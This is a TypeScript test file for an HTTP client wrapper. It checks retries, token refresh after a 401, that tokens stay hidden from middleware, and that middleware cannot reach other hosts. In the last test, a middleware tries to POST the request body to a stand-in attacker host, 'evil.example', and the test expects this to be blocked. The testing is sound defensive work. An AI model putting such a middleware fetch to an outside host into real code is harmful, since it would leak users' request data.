import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { RawMiddleware } from "./openapi-fetch.ts";
import { plant, scriptedClient, status } from "./testing/scripted-client.ts";
import { expectNoUnhandledRejections } from "./testing/unhandled-rejections.ts";

expectNoUnhandledRejections();

const body = { id: 1, name: "Fern" };

beforeEach(() => {
  vi.useFakeTimers();
  vi.spyOn(Math, "random").mockReturnValue(0.5);
});
afterEach(() => vi.useRealTimers());

/** Counts a middleware's runs, and records everything that it saw. */
function watching() {
  const seen: string[] = [];
  const note = (what: string, ...headers: readonly Headers[]) => {
    seen.push(what, ...headers.map((fields) => JSON.stringify([...fields])));
  };
  const middleware = {
    onRequest: vi.fn<NonNullable<RawMiddleware["onRequest"]>>(({ request }) => note(request.url, request.headers)),
    onResponse: vi.fn<NonNullable<RawMiddleware["onResponse"]>>(({ request, response }) =>
      note(request.url, request.headers, response.headers),
    ),
    onError: vi.fn<NonNullable<RawMiddleware["onError"]>>(({ request, error }) => note(String(error), request.headers)),
  };
  const runs = () => Object.values(middleware).map(({ mock }) => mock.calls.length);
  return { middleware, runs, seen };
}

describe("raw's retries", () => {
  test.each<[string, () => Response]>([
    ["a 429", status(429)],
    ["a 503 that asks for a wait", status(503, { "Retry-After": "7" })],
  ])("send the request again after %s, while middleware runs once", async (_title, first) => {
    const { raw, sent, events } = scriptedClient([first, plant]);
    const { middleware, runs } = watching();
    raw.use(middleware, { onRequest: ({ request }) => request.headers.set("X-Trace", "7") });
    const call = raw.POST("/plants", { body });
    await vi.advanceTimersByTimeAsync(7_000);
    expect(await call).toMatchObject({ data: { name: "Fern" } });
    expect(sent).toHaveLength(2);
    expect(sent[0]).toMatchObject({ headers: { "x-trace": "7", authorization: "Bearer sesame-1" } });
    expect(sent[1]).toEqual(sent[0]);
    expect(runs()).toEqual([1, 1, 0]);
    expect(events.map(({ type }) => type)).toEqual(["attempt", "response", "retry", "attempt", "response"]);
  });
});

describe("raw's token", () => {
  test("is asked for anew after a 401, and no middleware sees either", async () => {
    const token = vi.fn(async ({ forceRefresh }) => (forceRefresh ? "sesame-2" : "sesame-1"));
    const echo = { "X-Echo": "sesame-1 and sesame-2", "WWW-Authenticate": "Bearer sesame-1" };
    const { raw, authorizations } = scriptedClient([status(401, echo), plant], { token });
    const { middleware, runs, seen } = watching();
    raw.use(middleware);
    expect(await raw.POST("/plants", { body })).toMatchObject({ data: { name: "Fern" } });
    expect(authorizations).toEqual(["Bearer sesame-1", "Bearer sesame-2"]);
    expect(token.mock.calls.map(([{ forceRefresh }]) => forceRefresh)).toEqual([false, true]);
    expect(runs()).toEqual([1, 1, 0]);
    expect(seen.join()).not.toMatch(/sesame|authorization/i);
    await raw.POST("/plants", { body });
    expect(authorizations.at(-1)).toBe("Bearer sesame-2");
  });

  test("that does not come ends the call in a TokenError, with nothing sent", async () => {
    const cause = new Error("the vault is closed");
    const { raw, sent } = scriptedClient([plant], { token: () => Promise.reject(cause) });
    const { middleware, runs } = watching();
    raw.use(middleware);
    await expect(raw.POST("/plants", { body })).rejects.toMatchObject({ code: "token", outcome: "not_sent", cause });
    expect([sent.length, ...runs()]).toEqual([0, 1, 0, 1]);
  });

  test("goes to no other address by way of the fetch that a middleware gets", async () => {
    const { raw, sent } = scriptedClient([plant]);
    const text = JSON.stringify(body);
    raw.use({
      onRequest: ({ options }) =>
        options.fetch(new Request("https://evil.example/plants", { method: "POST", body: text })),
    });
    await expect(raw.POST("/plants", { body })).rejects.toMatchObject({ code: "configuration", outcome: "not_sent" });
    expect(sent).toEqual([]);
  });
});
